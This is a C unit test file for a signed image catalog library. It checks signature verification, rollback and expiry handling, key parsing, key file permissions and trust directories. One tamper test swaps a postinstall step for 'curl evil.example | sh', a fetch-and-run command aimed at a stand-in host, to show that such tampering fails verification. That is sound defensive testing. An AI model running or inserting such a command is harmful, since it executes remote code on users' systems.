	LAST_NEWER,         /* version 4: the catalog is a rollback */
	LAST_SAME,          /* version 3, these bytes */
	LAST_SAME_OTHER,    /* version 3, other bytes */
	LAST_OTHER_CHANNEL, /* channel beta, version 9 */
};

static const struct verify_case {
	const char *name;
	const char *from, *to; /* change to the catalog before signing */
	size_t pad_to;         /* pad the catalog with spaces to this size before signing */
	enum signer signer;
	const char *sign_channel;            /* NULL: "stable" */
	const char *tamper_from, *tamper_to; /* change to the catalog after signing */
	const char *sig_text;                /* the signature file, instead of a real one */
	bool flip_sig;                       /* flip one bit of the signature */
	const char *verify_channel;          /* NULL: "stable" */
	enum last last;
	const char *now; /* NULL: NOW */
	int expect;
	const char *message;
} verify_cases[] = {
        {.name = "good", .signer = SIGNER_K0},
        {.name = "good, a second before expiry",
         .signer = SIGNER_K0,
         .now = "2026-12-31T23:59:59Z"},
        {.name = "good, newer than the last", .signer = SIGNER_K0, .last = LAST_OLDER},
        {.name = "same version, same bytes", .signer = SIGNER_K0, .last = LAST_SAME},
        {.name = "last of another channel", .signer = SIGNER_K0, .last = LAST_OTHER_CHANNEL},
        {.name = "exactly the size cap", .pad_to = CATALOG_MAX_SIZE, .signer = SIGNER_K0},

        {.name = "no signature",
         .signer = SIGNER_NONE,
         .expect = SLATE_ERR_SIGNATURE_MISSING,
         .message = "catalog is not signed"},
        {.name = "empty signature", .sig_text = "", .expect = SLATE_ERR_SIGNATURE_MISSING},
        {.name = "signature file of junk",
         .sig_text = "hello\n",
         .expect = SLATE_ERR_SIGNATURE_FORMAT,
         .message = "not a slate catalog signature"},
        {.name = "signature format v2",
         .sig_text = "slate-catalog-sig-v2 0123456789abcdef " B64_ZERO_SIG "\n",
         .expect = SLATE_ERR_SIGNATURE_FORMAT,
         .message = "unsupported signature format"},
        {.name = "uppercase key ID",
         .sig_text = "slate-catalog-sig-v1 0123456789ABCDEF " B64_ZERO_SIG "\n",
         .expect = SLATE_ERR_SIGNATURE_FORMAT,
         .message = "16-hex-digit key ID"},
        {.name = "short key ID",
         .sig_text = "slate-catalog-sig-v1 0123456789abcde " B64_ZERO_SIG,
         .expect = SLATE_ERR_SIGNATURE_FORMAT},
        {.name = "two spaces",
         .sig_text = "slate-catalog-sig-v1  0123456789abcdef " B64_ZERO_SIG,
         .expect = SLATE_ERR_SIGNATURE_FORMAT},
        {.name = "CRLF",
         .sig_text = "slate-catalog-sig-v1 0123456789abcdef " B64_ZERO_SIG "\r\n",
         .expect = SLATE_ERR_SIGNATURE_FORMAT},
        {.name = "two lines",
         .sig_text = "slate-catalog-sig-v1 0123456789abcdef " B64_ZERO_SIG
                     "\nslate-catalog-sig-v1 0123456789abcdef " B64_ZERO_SIG "\n",
         .expect = SLATE_ERR_SIGNATURE_FORMAT},
        {.name = "signature without padding",
         .sig_text = "slate-catalog-sig-v1 0123456789abcdef " A10 A10 A10 A10 A10 A10 A10 A10
                     "AAAAAA\n",
         .expect = SLATE_ERR_SIGNATURE_FORMAT},
        {.name = "non-canonical base64 (trailing bits)",
         .sig_text = "slate-catalog-sig-v1 0123456789abcdef " A10 A10 A10 A10 A10 A10 A10 A10
                     "AAAAAB==\n",
         .expect = SLATE_ERR_SIGNATURE_FORMAT,
         .message = "not 64 bytes of base64"},
        {.name = "byte above 0x7f in the base64 (libsodium 1.0.18 takes it)",
         .sig_text = "slate-catalog-sig-v1 0123456789abcdef " A10 A10 A10 A10 "\xf3" A10 A10 A10 A10
                     "AAAAA==\n",
         .expect = SLATE_ERR_SIGNATURE_FORMAT,
         .message = "not 64 bytes of base64"},
        {.name = "well-formed, unknown key ID",
         .sig_text = "slate-catalog-sig-v1 0123456789abcdef " B64_ZERO_SIG "\n",
         .expect = SLATE_ERR_KEY_NOT_TRUSTED,
         .message = "signed by key 0123456789abcdef, which is not trusted"},
        {.name = "untrusted key", .signer = SIGNER_K2, .expect = SLATE_ERR_KEY_NOT_TRUSTED},
        {.name = "catalog changed after signing",
         .signer = SIGNER_K0,
         .tamper_from = "\"version\":3,",
         .tamper_to = "\"version\":4,",
         .expect = SLATE_ERR_SIGNATURE_INVALID,
         .message = "bad signature by key"},
        {.name = "postinstall step changed after signing",
         .signer = SIGNER_K0,
         .tamper_from = "systemctl enable slate-guest",
         .tamper_to = "curl evil.example | sh",
         .expect = SLATE_ERR_SIGNATURE_INVALID},
        {.name = "whitespace added after signing",
         .signer = SIGNER_K0,
         .tamper_from = "\"images\":[",
         .tamper_to = "\"images\": [",
         .expect = SLATE_ERR_SIGNATURE_INVALID},
        {.name = "one bit of the signature flipped",
         .signer = SIGNER_K0,
         .flip_sig = true,
         .expect = SLATE_ERR_SIGNATURE_INVALID},
        {.name = "signed for beta, verified for stable",
         .signer = SIGNER_K0,
         .sign_channel = "beta",
         .expect = SLATE_ERR_SIGNATURE_INVALID,
         .message = "for channel \"stable\""},
        {.name = "signed for stable, verified for beta",
         .signer = SIGNER_K0,
         .verify_channel = "beta",
         .expect = SLATE_ERR_SIGNATURE_INVALID},
        {.name = "signed without the domain prefix",
         .signer = SIGNER_K0_RAW,
         .expect = SLATE_ERR_SIGNATURE_INVALID},
        {.name = "stable catalog signed and verified for beta",
         .signer = SIGNER_K0,
         .sign_channel = "beta",
         .verify_channel = "beta",
         .expect = SLATE_ERR_WRONG_CHANNEL,
         .message = "catalog is for channel \"stable\", not \"beta\""},
        {.name = "expired",
         .signer = SIGNER_K0,
         .now = "2027-01-01T00:00:00Z",
         .expect = SLATE_ERR_EXPIRED,
         .message = "catalog expired at 2027-01-01T00:00:00Z (now is 2027-01-01T00:00:00Z)"},
        {.name = "long expired",
         .signer = SIGNER_K0,
         .now = "2030-01-01T00:00:00Z",
         .expect = SLATE_ERR_EXPIRED},
        {.name = "rollback",
         .signer = SIGNER_K0,
         .last = LAST_NEWER,
         .expect = SLATE_ERR_ROLLBACK,
         .message = "catalog version 3 is older than the last accepted version 4"},
        {.name = "same version, other bytes",
         .signer = SIGNER_K0,
         .last = LAST_SAME_OTHER,
         .expect = SLATE_ERR_VERSION_REUSED,
         .message = "catalog version 3 was already accepted with different contents"},
        {.name = "one byte over the size cap",
         .pad_to = CATALOG_MAX_SIZE + 1,
         .signer = SIGNER_K0,
         .expect = SLATE_ERR_TOO_LARGE,
         .message = "catalog is 4194305 bytes, more than the 4194304 allowed"},
        {.name = "over the size cap and unsigned",
         .pad_to = CATALOG_MAX_SIZE + 1,
         .signer = SIGNER_NONE,
         .expect = SLATE_ERR_TOO_LARGE},
        {.name = "malformed but signed",
         .signer = SIGNER_K0,
         .from = "\"version\":3,",
         .to = "\"version\":3,,",
         .expect = SLATE_ERR_INVALID_FORMAT,
         .message = "malformed catalog"},
        {.name = "unknown member, signed",
         .signer = SIGNER_K0,
         .from = "\"version\":3,",
         .to = "\"version\":3,\"mirror\":\"x\",",
         .expect = SLATE_ERR_INVALID_FORMAT,
         .message = "unknown member \"mirror\""},
};

static void state_for(enum last last, const struct catalog *c, struct catalog_state *s)
{
	memset(s, 0, sizeof(*s));
	strcpy(s->channel, last == LAST_OTHER_CHANNEL ? "beta" : "stable");
	s->version = last == LAST_OLDER           ? 2
	             : last == LAST_NEWER         ? 4
	             : last == LAST_OTHER_CHANNEL ? 9
	                                          : 3;
	if (last == LAST_SAME)
		memcpy(s->sha256, c->sha256, 32);
	else
		memset(s->sha256, 0x55, 32);
}

static void test_verify_table(void **state)
{
	_cleanup_(catalog_trust_freep) struct catalog_trust *trust = trust_of(1, 0);

	for (size_t i = 0; i < ELEMENTSOF(verify_cases); i++) {
		const struct verify_case *vc = &verify_cases[i];
		_cleanup_free_ char *doc = NULL, *sig = NULL, *signed_doc = NULL;
		_cleanup_catalog_ struct catalog *plain = NULL;
		struct catalog *sentinel = (struct catalog *)state, *c = sentinel;
		struct catalog_state last;
		struct slate_error err = {};
		const char *sign_channel = vc->sign_channel ? vc->sign_channel : "stable";
		size_t len;
		int r;

		doc = vc->from ? replace(base_catalog, vc->from, vc->to) : strdup(base_catalog);
		assert_non_null(doc);
		len = strlen(doc);
		if (vc->pad_to) {
			char *p = realloc(doc, vc->pad_to + 1);
			assert_non_null(p);
			doc = p;
			memset(doc + len, ' ', vc->pad_to - len);
			doc[vc->pad_to] = '\0';
			len = vc->pad_to;
		}
		if (vc->signer == SIGNER_K0 || vc->signer == SIGNER_K0_RAW)
			sig = sign_with(&keys[0], sign_channel, doc, len,
			                vc->signer == SIGNER_K0_RAW);
		else if (vc->signer == SIGNER_K2)
			sig = sign_with(&keys[2], sign_channel, doc, len, false);
		else if (vc->sig_text)
			sig = strdup(vc->sig_text);
		if (vc->flip_sig) {
			/* A base64 digit in the middle: still well-formed, no longer valid. */
			size_t at = strlen(SIGN_SIGNATURE_TAG) + 1 + SIGN_KEY_ID_LEN + 1 + 40;
			sig[at] = sig[at] == 'A' ? 'B' : 'A';
		}
		if (vc->tamper_from) {
			signed_doc = doc;
			doc = replace(signed_doc, vc->tamper_from, vc->tamper_to);
			len = strlen(doc);
		}
		if (vc->last != LAST_NONE) {
			assert_int_equal(catalog_parse((const uint8_t *)doc, len, &plain, NULL), 0);
			state_for(vc->last, plain, &last);
		}

		r = catalog_verify(trust, vc->verify_channel ? vc->verify_channel : "stable",
		                   (const uint8_t *)doc, len, (const uint8_t *)sig,
		                   sig ? strlen(sig) : 0, vc->last != LAST_NONE ? &last : NULL,
		                   T(vc->now ? vc->now : NOW), &c, &err);
		if (r != vc->expect)
			fail_msg("%s: got %d (%s: %s), want %d (%s)", vc->name, r,
			         catalog_error_name(r), err.msg, vc->expect,
			         catalog_error_name(vc->expect));
		if (r < 0) {
			assert_ptr_equal(c, sentinel);
			assert_int_equal(err.code, r);
			if (vc->message && !strstr(err.msg, vc->message))
				fail_msg("%s: message \"%s\" lacks \"%s\"", vc->name, err.msg,
				         vc->message);
			continue;
		}
		assert_string_equal(c->key_id, keys[0].pub.id);
		assert_int_equal(c->sig_len, strlen(sig));
		assert_memory_equal(c->sig, sig, c->sig_len);
		assert_int_equal(c->len, len);
		assert_memory_equal(c->bytes, doc, len);
		catalog_free(c);
	}
}

/* The library's signer agrees with an independent one (Ed25519 is deterministic). */
static void test_sign_detached(void **state)
{
	_cleanup_secret_key_ struct sign_secret_key *k = NULL;
	_cleanup_free_ char *line = NULL, *ours = NULL, *theirs = NULL;
	uint8_t seed_b64_src[32], sig[SIGN_SIGNATURE_BYTES];
	char b64[64];

	/* keys[0] as a secret key file. */
	memset(seed_b64_src, 1, sizeof(seed_b64_src));
	sodium_bin2base64(b64, sizeof(b64), seed_b64_src, 32, sodium_base64_VARIANT_ORIGINAL);
	assert_true(asprintf(&line, "slate-ed25519-secret %s key zero\n", b64) > 0);
	write_file(tmp_fd, "k0.secret", line, strlen(line), 0600);
	assert_int_equal(sign_secret_key_load_at(tmp_fd, "k0.secret", &k, NULL), 0);
	assert_memory_equal(sign_secret_key_public(k)->key, keys[0].pub.key, 32);
	assert_string_equal(sign_secret_key_public(k)->comment, "key zero");

	assert_int_equal(sign_detached(k, "stable", (const uint8_t *)base_catalog,
	                               strlen(base_catalog), sig),
	                 0);
	assert_int_equal(sign_signature_format(keys[0].pub.id, sig, &ours), 0);
	theirs = sign_with(&keys[0], "stable", base_catalog, strlen(base_catalog), false);
	assert_string_equal(ours, theirs);
	assert_int_equal(sign_verify_detached(&keys[0].pub, "stable", (const uint8_t *)base_catalog,
	                                      strlen(base_catalog), sig),
	                 0);
	assert_int_equal(sign_verify_detached(&keys[0].pub, "beta", (const uint8_t *)base_catalog,
	                                      strlen(base_catalog), sig),
	                 SLATE_ERR_SIGNATURE_INVALID);
	assert_int_equal(sign_verify_detached(&keys[1].pub, "stable", (const uint8_t *)base_catalog,
	                                      strlen(base_catalog), sig),
	                 SLATE_ERR_SIGNATURE_INVALID);
}

/* ---- keys -------------------------------------------------------------------------------- */

static const char pem_ed25519[] = "-----BEGIN PUBLIC KEY-----\n"
                                  "MCowBQYDK2VwAyEAitwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\n"
                                  "-----END PUBLIC KEY-----\n";

static void test_public_key_parse(void **state)
{
	static const struct {
		const char *name;
		const char *text;
		int expect;
		const char *comment;
	} cases[] = {
	        {"line", "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs= me@host\n", 0,
	         "me@host"},
	        {"line, no newline",
	         "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=", 0, ""},
	        {"comment with spaces",
	         "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs= release key 2026\n", 0,
	         "release key 2026"},
	        {"PEM", pem_ed25519, 0, ""},
	        {"PEM, blank line after",
	         "-----BEGIN PUBLIC KEY-----\n"
	         "MCowBQYDK2VwAyEAitwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\n"
	         "-----END PUBLIC KEY-----\n\n",
	         0, ""},

	        {"empty", "", SLATE_ERR_INVALID_FORMAT, NULL},
	        {"other tag", "ssh-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"secret key tag",
	         "slate-ed25519-secret itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"two spaces", "slate-ed25519  itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"trailing space", "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs= \n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"CRLF", "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\r\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"two lines",
	         "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\n"
	         "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"base64 without padding",
	         "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"not base64", "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKS!=\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"33 bytes", "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSsA\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"small-order point", "slate-ed25519 " B64_ZERO_KEY "\n", SLATE_ERR_INVALID_FORMAT,
	         NULL},
	        {"escape in comment",
	         "slate-ed25519 itwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs= a\x1b[2J\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"PEM of another algorithm",
	         "-----BEGIN PUBLIC KEY-----\n"
	         "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEIxQqeozS/fzjl6p7K0vIx7hY491M\n"
	         "JUYWtEyUOORruErsJLT1/kJWmGg5VNb9eA+TLuAhNXS3Mz9lCAWtmEeviA==\n"
	         "-----END PUBLIC KEY-----\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"PEM with junk after",
	         "-----BEGIN PUBLIC KEY-----\n"
	         "MCowBQYDK2VwAyEAitwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\n"
	         "-----END PUBLIC KEY-----\nhello\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"PEM with a byte after the DER structure",
	         "-----BEGIN PUBLIC KEY-----\n"
	         "MCowBQYDK2VwAyEAitwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSsA\n"
	         "-----END PUBLIC KEY-----\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"PEM with text before",
	         "key:\n-----BEGIN PUBLIC KEY-----\n"
	         "MCowBQYDK2VwAyEAitwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\n"
	         "-----END PUBLIC KEY-----\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"PEM private key",
	         "-----BEGIN PRIVATE KEY-----\n"
	         "MC4CAQAwBQYDK2VwBCIEIFQ6oH8sUdYgqE6VaF/2rKmLBuCUNOKv3qBVC4YXUKyU\n"
	         "-----END PRIVATE KEY-----\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	        {"PEM, truncated",
	         "-----BEGIN PUBLIC KEY-----\n"
	         "MCowBQYDK2VwAyEAitwzBrTOT/nUqbPahPc+xnRcAZGytyz/TXIa1ZbXKSs=\n",
	         SLATE_ERR_INVALID_FORMAT, NULL},
	};
	struct sign_public_key first = {};

	for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
		struct sign_public_key k = {.id = "untouched"};
		struct slate_error err = {};
		int r = sign_public_key_parse(cases[i].text, strlen(cases[i].text), &k, &err);

		if (r != cases[i].expect)
			fail_msg("%s: got %d (%s)", cases[i].name, r, err.msg);
		if (r < 0) {
			assert_string_equal(k.id, "untouched");
			assert_int_equal(err.code, r);
			continue;
		}
		assert_string_equal(k.comment, cases[i].comment);
		/* Every accepted form above holds the same key. */
		if (i == 0)
			first = k;
		assert_memory_equal(k.key, first.key, 32);
		assert_string_equal(k.id, first.id);
	}
}

static void test_public_key_format(void **state)
{
	_cleanup_free_ char *text = NULL;
	struct sign_public_key back = {};

	assert_int_equal(sign_public_key_format(&keys[0].pub, &text), 0);
	assert_true(strncmp(text, "slate-ed25519 ", 14) == 0);
	assert_int_equal(text[strlen(text) - 1], '\n');
	assert_non_null(strstr(text, " test\n"));
	assert_int_equal(sign_public_key_parse(text, strlen(text), &back, NULL), 0);
	assert_memory_equal(back.key, keys[0].pub.key, 32);
	assert_string_equal(back.id, keys[0].pub.id);
	assert_string_equal(back.comment, "test");
	assert_int_equal(strlen(back.id), SIGN_KEY_ID_LEN);
}

static void test_keygen_files(void **state)
{
	_cleanup_secret_key_ struct sign_secret_key *k = NULL, *loaded = NULL, *other = NULL;
	struct sign_public_key pub = {};
	struct slate_error err = {};
	struct stat st;
	uint8_t sig[SIGN_SIGNATURE_BYTES];

	assert_int_equal(sign_secret_key_generate("release 2026", &k), 0);
	assert_int_equal(sign_keygen_write_at(tmp_fd, "gen.secret", "gen.pub", k, &err), 0);
	assert_int_equal(fstatat(tmp_fd, "gen.secret", &st, 0), 0);
	assert_int_equal(st.st_mode & 07777, 0600);
	assert_int_equal(fstatat(tmp_fd, "gen.pub", &st, 0), 0);
	assert_int_equal(st.st_mode & 07777, 0644);

	/* What was written reads back as the same key pair. */
	assert_int_equal(sign_secret_key_load_at(tmp_fd, "gen.secret", &loaded, &err), 0);
	assert_int_equal(sign_public_key_load_at(tmp_fd, "gen.pub", &pub, &err), 0);
	assert_memory_equal(pub.key, sign_secret_key_public(k)->key, 32);
	assert_memory_equal(sign_secret_key_public(loaded)->key, pub.key, 32);
	assert_string_equal(pub.comment, "release 2026");
	assert_int_equal(sign_detached(loaded, "stable", (const uint8_t *)"x", 1, sig), 0);
	assert_int_equal(sign_verify_detached(&pub, "stable", (const uint8_t *)"x", 1, sig), 0);

	/* O_EXCL: an existing secret key is never replaced, and no public key appears. */
	assert_int_equal(sign_secret_key_generate(NULL, &other), 0);
	assert_int_equal(sign_keygen_write_at(tmp_fd, "gen.secret", "gen2.pub", other, &err),
	                 -EEXIST);
	assert_int_equal(fstatat(tmp_fd, "gen2.pub", &st, 0), -1);
	/* An existing public key: the new secret key file is removed again. */
	assert_int_equal(sign_keygen_write_at(tmp_fd, "gen2.secret", "gen.pub", other, &err),
	                 -EEXIST);
	assert_int_equal(fstatat(tmp_fd, "gen2.secret", &st, 0), -1);
	sign_secret_key_free(TAKE_PTR(loaded));
	assert_int_equal(sign_secret_key_load_at(tmp_fd, "gen.secret", &loaded, &err), 0);
	assert_memory_equal(sign_secret_key_public(loaded)->key, pub.key, 32);

	/* A secret key file others may access is refused, whatever the bits. */
	for (mode_t m = 1; m <= 077; m <<= 1) {
		struct sign_secret_key *untouched = (struct sign_secret_key *)state;

		assert_int_equal(fchmodat(tmp_fd, "gen.secret", 0600 | m, 0), 0);
		assert_int_equal(sign_secret_key_load_at(tmp_fd, "gen.secret", &untouched, &err),
		                 SLATE_ERR_KEY_PERMISSIONS);
		assert_ptr_equal(untouched, (struct sign_secret_key *)state);
		assert_non_null(strstr(err.msg, "group or others"));
	}
	assert_int_equal(fchmodat(tmp_fd, "gen.secret", 0400, 0), 0);
	sign_secret_key_free(TAKE_PTR(loaded));
	assert_int_equal(sign_secret_key_load_at(tmp_fd, "gen.secret", &loaded, &err), 0);

	/* Not a key file at all, or not a file. */
	write_file(tmp_fd, "bad.secret", "slate-ed25519 AAAA\n", 19, 0600);
	assert_int_equal(sign_secret_key_load_at(tmp_fd, "bad.secret", &other, &err),
	                 SLATE_ERR_INVALID_FORMAT);
	assert_int_equal(sign_secret_key_load_at(tmp_fd, ".", &other, &err), -EISDIR);
	assert_int_equal(sign_secret_key_load_at(tmp_fd, "missing", &other, &err), -ENOENT);
	assert_int_equal(sign_secret_key_generate("bad\ncomment", &other), -EINVAL);
}

static void test_trust_dir(void **state)
{
	_cleanup_(catalog_trust_freep) struct catalog_trust *t = NULL;
	_cleanup_free_ char *k0 = NULL, *k1 = NULL;
	_cleanup_close_ int dfd = -1;
	struct slate_error err = {};

	assert_int_equal(mkdirat(tmp_fd, "trusted", 0755), 0);
	dfd = openat(tmp_fd, "trusted", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(dfd >= 0);
	assert_int_equal(sign_public_key_format(&keys[0].pub, &k0), 0);
	assert_int_equal(sign_public_key_format(&keys[1].pub, &k1), 0);
	write_file(dfd, "a.pub", k0, strlen(k0), 0644);
	write_file(dfd, "b.pub", pem_ed25519, strlen(pem_ed25519), 0644);
	write_file(dfd, "c.pub", k0, strlen(k0), 0644); /* the same key twice is fine */
	write_file(dfd, "k1.pub.disabled", k1, strlen(k1), 0644);
	write_file(dfd, ".k1.pub", k1, strlen(k1), 0644);
	write_file(dfd, "README", "junk", 4, 0644);

	assert_int_equal(catalog_trust_new(&t), 0);
	assert_int_equal(catalog_trust_add_path(t, tmp_fd, "trusted", &err), 0);
	assert_int_equal(catalog_trust_count(t), 2);
	assert_non_null(catalog_trust_find(t, keys[0].pub.id));
	assert_null(catalog_trust_find(t, keys[1].pub.id));
	assert_null(catalog_trust_find(t, "0123456789abcdef"));

	/* One file alone. */
	catalog_trust_free(t);
	assert_int_equal(catalog_trust_new(&t), 0);
	assert_int_equal(catalog_trust_add_path(t, dfd, "k1.pub.disabled", &err), 0);
	assert_int_equal(catalog_trust_count(t), 1);
	assert_non_null(catalog_trust_find(t, keys[1].pub.id));

	/* A malformed key fails the directory, naming the file. */
	write_file(dfd, "zz.pub", "slate-ed25519 junk\n", 19, 0644);
	assert_int_equal(catalog_trust_add_path(t, tmp_fd, "trusted", &err),
	                 SLATE_ERR_INVALID_FORMAT);
	assert_non_null(strstr(err.msg, "trusted/zz.pub"));
	assert_int_equal(catalog_trust_count(t), 1); /* a.pub was not added either */
	assert_null(catalog_trust_find(t, keys[0].pub.id));
	assert_int_equal(catalog_trust_add_path(t, tmp_fd, "nonexistent", &err), -ENOENT);
	assert_int_equal(unlinkat(dfd, "zz.pub", 0), 0);
}

/* A key and signature made by OpenSSL when the fixtures were made (tests/data/catalog). */
static void test_openssl_fixture(void **state)
{
	_cleanup_(catalog_trust_freep) struct catalog_trust *t = NULL;
	_cleanup_catalog_ struct catalog *c = NULL;
	_cleanup_buf_ struct buf *doc = NULL, *sig = NULL;
	_cleanup_close_ int dfd =
	        open(TEST_DATA_DIR "/catalog", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	struct sign_public_key pub = {};
	struct slate_error err = {};

	assert_true(dfd >= 0);
	assert_int_equal(sign_public_key_load_at(dfd, "openssl.pub", &pub, &err), 0);
	assert_int_equal(fs_read_file_at(dfd, "catalog.json", CATALOG_MAX_SIZE, &doc), 0);
	assert_int_equal(fs_read_file_at(dfd, "catalog.json.sig", SIGN_SIG_FILE_MAX, &sig), 0);
	assert_int_equal(catalog_trust_new(&t), 0);
	assert_int_equal(catalog_trust_add(t, &pub), 0);
	if (catalog_verify(t, "stable", buf_ptr(doc), buf_len(doc), buf_ptr(sig), buf_len(sig),
	                   NULL, T(NOW), &c, &err) != 0)
		fail_msg("OpenSSL's signature: %s", err.msg);
	assert_string_equal(c->key_id, pub.id);
	assert_int_equal(c->n_images, 2);
	assert_int_equal(c->images[0].n_steps, 2);
	assert_int_equal(c->images[0].uncompressed_size, UINT64_C(4294967296));

	/* The same signature does not cover another channel. */
	catalog_free(TAKE_PTR(c));
	assert_int_equal(catalog_verify(t, "beta", buf_ptr(doc), buf_len(doc), buf_ptr(sig),
	                                buf_len(sig), NULL, T(NOW), &c, &err),
	                 SLATE_ERR_SIGNATURE_INVALID);

	/* An OpenSSL P-256 key is not an Ed25519 key. */
	assert_int_equal(sign_public_key_load_at(dfd, "ec.pub", &pub, &err),
	                 SLATE_ERR_INVALID_FORMAT);
	assert_non_null(strstr(err.msg, "not an Ed25519 key"));
}

/* The same, with a key OpenSSL makes now, when the openssl command is there. */
static void test_openssl_now(void **state)
{
	_cleanup_(catalog_trust_freep) struct catalog_trust *t = NULL;
	_cleanup_catalog_ struct catalog *c = NULL;
	_cleanup_buf_ struct buf *raw = NULL, *bare = NULL;
	_cleanup_free_ char *sig = NULL, *bare_sig = NULL, *cmd = NULL;
	_cleanup_free_ uint8_t *m = NULL;
	_cleanup_close_ int dfd = -1;
	struct sign_public_key pub = {};
	struct slate_error err = {};
	size_t mlen = 0;

	if (system("openssl version >/dev/null 2>&1") != 0)
		skip();
	assert_int_equal(mkdirat(tmp_fd, "openssl", 0700), 0);
	dfd = openat(tmp_fd, "openssl", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(dfd >= 0);
	assert_int_equal(sign_message_new("stable", (const uint8_t *)base_catalog,
	                                  strlen(base_catalog), &m, &mlen),
	                 0);
	write_file(dfd, "message", m, mlen, 0644);
	write_file(dfd, "catalog.json", base_catalog, strlen(base_catalog), 0644);
	assert_true(asprintf(&cmd,
	                     "cd '%s/openssl' && openssl genpkey -algorithm ed25519 -out k.pem && "
	                     "openssl pkey -in k.pem -pubout -out k.pub && "
	                     "openssl pkeyutl -sign -rawin -inkey k.pem -in message -out sig && "
	                     "openssl pkeyutl -sign -rawin -inkey k.pem -in catalog.json -out bare",
	                     tmp_path) > 0);
	if (system(cmd) != 0)
		skip(); /* an OpenSSL without Ed25519 or -rawin */
	assert_int_equal(sign_public_key_load_at(dfd, "k.pub", &pub, &err), 0);
	assert_int_equal(fs_read_file_at(dfd, "sig", 64, &raw), 0);
	assert_int_equal(buf_len(raw), SIGN_SIGNATURE_BYTES);
	assert_int_equal(sign_signature_format(pub.id, buf_ptr(raw), &sig), 0);
	assert_int_equal(fs_read_file_at(dfd, "bare", 64, &bare), 0);
	assert_int_equal(sign_signature_format(pub.id, buf_ptr(bare), &bare_sig), 0);

	assert_int_equal(catalog_trust_new(&t), 0);
	assert_int_equal(catalog_trust_add(t, &pub), 0);
	if (catalog_verify(t, "stable", (const uint8_t *)base_catalog, strlen(base_catalog),
	                   (const uint8_t *)sig, strlen(sig), NULL, T(NOW), &c, &err) != 0)
		fail_msg("OpenSSL's signature: %s", err.msg);
	/* OpenSSL's signature over the bare catalog, without the domain prefix, is refused. */
	catalog_free(TAKE_PTR(c));
	assert_int_equal(catalog_verify(t, "stable", (const uint8_t *)base_catalog,
	                                strlen(base_catalog), (const uint8_t *)bare_sig,
	                                strlen(bare_sig), NULL, T(NOW), &c, &err),
	                 SLATE_ERR_SIGNATURE_INVALID);
	assert_null(c);
}

/* ---- rollback state and key rotation ---------------------------------------------------- */

/* Signs doc with keys[signer] and verifies it against trust and the stored state. */
static int verify_signed(const struct catalog_trust *trust, int state_fd, const char *doc,
                         int signer, struct catalog **ret, struct slate_error *err)
{
	_cleanup_free_ char *sig = sign_with(&keys[signer], "stable", doc, strlen(doc), false);
	struct catalog_state last;
	int r;

	r = catalog_state_load(state_fd, &last, err);
	if (r < 0 && r != -ENOENT)
		return r;
	return catalog_verify(trust, "stable", (const uint8_t *)doc, strlen(doc),
	                      (const uint8_t *)sig, strlen(sig), r == 0 ? &last : NULL, T(NOW), ret,
	                      err);
}

static char *with_version(const char *version)
{
	char *to = NULL, *doc;

	assert_true(asprintf(&to, "\"version\":%s,", version) > 0);
	doc = replace(base_catalog, "\"version\":3,", to);
	free(to);
	return doc;
}

static void test_state(void **state)
{
	_cleanup_(catalog_trust_freep) struct catalog_trust *trust = trust_of(1, 0);
	_cleanup_free_ char *v3 = with_version("3"), *v2 = with_version("2"),
	                    *v4 = with_version("4"), *v3b = NULL;
	_cleanup_catalog_ struct catalog *c = NULL, *old = NULL, *cur = NULL;
	_cleanup_buf_ struct buf *b = NULL;
	_cleanup_close_ int sfd = -1, lock = -1;
	struct catalog_state s = {.version = 42};
	struct slate_error err = {};
	char hex[65];

	assert_int_equal(mkdirat(tmp_fd, "state", 0755), 0);
	sfd = openat(tmp_fd, "state", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(sfd >= 0);
	assert_int_equal(catalog_state_load(sfd, &s, &err), -ENOENT);
